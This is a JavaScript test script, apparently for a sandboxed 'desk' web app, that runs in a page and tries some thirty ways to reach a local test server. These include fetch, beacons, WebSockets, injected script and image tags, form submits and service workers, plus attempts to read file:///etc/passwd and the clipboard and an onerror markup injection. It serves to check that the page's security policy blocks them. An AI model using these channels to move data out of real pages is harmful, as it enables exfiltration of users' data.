// @ts-nocheck: it runs in a page, and the tests around it are checked as programs of Node.
// Tries every way out that a page has, towards a server of the test. Runs as the desk's page, under its policy, and as
// an ordinary page of an ordinary browser for comparison.

/** How long each attempt may take, ms. */
const patience = 1500

/**
 * @param {() => unknown} attempt
 * @returns {Promise<string>} what became of it
 */
async function outcome(attempt) {
  const late = new Promise((resolve) => setTimeout(resolve, patience, 'nothing happened'))
  try {
    return String(await Promise.race([Promise.resolve(attempt()).then((value) => `done: ${value}`), late]))
  } catch (error) {
    return `failed: ${error instanceof Error ? error.name : error}`
  }
}

/** @param {EventTarget} target @param {string} good @param {string} bad */
const event = (target, good, bad) =>
  new Promise((resolve, reject) => {
    target.addEventListener(good, () => resolve(good))
    target.addEventListener(bad, () => reject(new Error(bad)))
  })

/** @param {string} tag @param {Record<string, string>} attributes */
function element(tag, attributes) {
  const made = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
  document.body.append(made)
  return made
}

/** @param {string} server address of the test's server, such as http://127.0.0.1:4711 */
globalThis.attack = async (server) => {
  const socket = server.replace('http', 'ws')
  /** @type {Record<string, () => unknown>} */
  const attempts = {
    fetch: async () => (await fetch(`${server}/fetch`, { mode: 'no-cors' })).type,
    fetchOurs: async () => (await fetch('/index.html')).status,
    fetchFile: async () => (await fetch('file:///etc/passwd')).status,
    request: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${server}/xhr`)
      request.send()
      return event(request, 'load', 'error')
    },
    beacon: () => {
      if (!navigator.sendBeacon(`${server}/beacon`, 'x')) throw new Error('refused')
    },
    webSocket: () => event(new WebSocket(`${socket}/ws`), 'open', 'error'),
    eventSource: () => event(new EventSource(`${server}/events`), 'open', 'error'),
    image: () => event(element('img', { src: `${server}/image.png` }), 'load', 'error'),
    style: () => event(element('link', { rel: 'stylesheet', href: `${server}/a.css` }), 'load', 'error'),
    script: () => event(element('script', { src: `${server}/a.js` }), 'load', 'error'),
    frame: () => event(element('iframe', { src: `${server}/frame` }), 'load', 'error'),
    object: () => event(element('object', { data: `${server}/object` }), 'load', 'error'),
    preconnect: () => void element('link', { rel: 'preconnect', href: server }),
    prefetch: () => void element('link', { rel: 'prefetch', href: `${server}/prefetch` }),
    worker: () => event(new Worker(`${location.origin}/attack.js`), 'message', 'error'),
    module: () => import(/* @vite-ignore */ `${server}/module.js`),
    form: () => {
      const form = /** @type {HTMLFormElement} */ (element('form', { action: `${server}/form`, target: 'elsewhere' }))
      form.submit()
    },
    open: () => {
      if (window.open(`${server}/open`) === null) throw new Error('no window')
    },
    blankLink: () => /** @type {HTMLElement} */ (element('a', { href: `${server}/blank`, target: '_blank' })).click(),
    ping: () => /** @type {HTMLElement} */ (element('a', { href: '#here', ping: `${server}/ping` })).click(),
    // biome-ignore lint/security/noGlobalEval: the point is that it must not run
    evaluate: () => globalThis.eval('1 + 1'),
    construct: () => new Function('return 1')(),
    markup: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected = true">')
    },
    webRtc: () => typeof RTCPeerConnection === 'undefined' && Promise.reject(new Error('gone')),
    webRtcInFrame: () => {
      const inner = /** @type {HTMLIFrameElement} */ (element('iframe', {})).contentWindow
      if (typeof inner?.RTCPeerConnection === 'undefined') throw new Error('gone')
    },
    bindingInFrame: () => {
      const inner = /** @type {HTMLIFrameElement} */ (element('iframe', {})).contentWindow
      if (!Object.keys(inner ?? {}).some((name) => /verbatim|desk/i.test(name))) throw new Error('gone')
    },
    geolocation: () =>
      new Promise((resolve, reject) =>
        navigator.geolocation.getCurrentPosition(resolve, () => reject(new Error('denied'))),
      ),
    clipboard: () => navigator.clipboard.readText(),
    serviceWorker: () => navigator.serviceWorker.register('/attack.js'),
    leave: () => {
      location.href = `${server}/leave`
    },
  }
  /** @type {Record<string, string>} */
  const results = {}
  for (const [name, attempt] of Object.entries(attempts)) results[name] = await outcome(attempt)
  return results
}
